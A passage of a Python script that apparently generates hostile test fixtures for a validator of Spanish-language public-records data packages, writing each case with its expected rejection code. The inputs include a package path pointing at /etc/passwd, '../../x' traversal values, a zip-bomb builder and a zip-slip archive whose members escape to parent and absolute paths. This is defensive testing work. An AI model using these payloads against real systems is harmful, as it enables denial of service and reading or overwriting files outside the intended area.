    yield Hostile("area-ajena", "area-no-corresponde", {f"{ITEM}/otros-antecedentes-x.csv": (HEADER + ROW).encode()})
    yield Hostile("mayusculas", "archivo-extension", {TABLE: None, f"{ITEM}/otros-antecedentes.CSV": b"a\n"})
    yield Hostile("json", "archivo-planilla", {f"{ITEM}/datapackage.json": b'{"resources": [{"path": "/etc/passwd"}]}'})
    yield Hostile("sin-sitio", "falta-sitio", {"sitio.yaml": None})
    stems = ("2026-13", "2026-00", "0000-01", "99999-01", "2026", "2026-1", "10-2026", "octubre", "2026-10-",
             "2026-10_x",
             "20261010", "\uff12\uff10\uff12\uff16-10")
    for i, name in enumerate(stems):
        yield Hostile(f"periodo-{i:02d}", "archivo-periodo", {f"2.09-concejo/actas/{name}.csv": b"a\n"})
    for i, name in enumerate(("otra", "../../x")):
        statement = f"estados: [{{tabla: {name}, estado: no_aplica, motivo: a}}]\n"
        yield Hostile(f"estado-tabla-{i}", "estado-tabla", {PACKAGE: statement.encode()})
    yield Hostile("estado-valor", "ficha-valor",
                  {PACKAGE: b"estados: [{tabla: otros-antecedentes, estado: borrar, motivo: a}]\n"})
    yield Hostile("estado-sin-motivo", "ficha-falta-clave",
                  {PACKAGE: b"estados: [{tabla: otros-antecedentes, estado: no_aplica}]\n"})
    yield Hostile("estado-forma", "ficha-tipo", {PACKAGE: b"estados: [a, [b], 3]\n"})


def _bomb(megabytes: int = 60) -> bytes:
    """A workbook of a few kilobytes that inflates a thousandfold."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"<c><v>1</v></c>" * (megabytes * 70_000))
    return buffer.getvalue()


def _slip() -> bytes:
    """An archive whose members climb out of it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("../../escapado.txt", "a")
        archive.writestr("/absoluto.txt", "a")
    return buffer.getvalue()


def main() -> int:
    if len(sys.argv) != 2:
        print(__doc__, file=sys.stderr)
        return 2
    for hostile in sites():
        write(hostile, Path(sys.argv[1], hostile.name))
    expected = {hostile.name: {"espera": hostile.expects, "etapa": hostile.stage} for hostile in sites()}
    Path(sys.argv[1], "esperado.json").write_text(json.dumps(expected, ensure_ascii=False, indent=1) + "\n", "utf-8")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
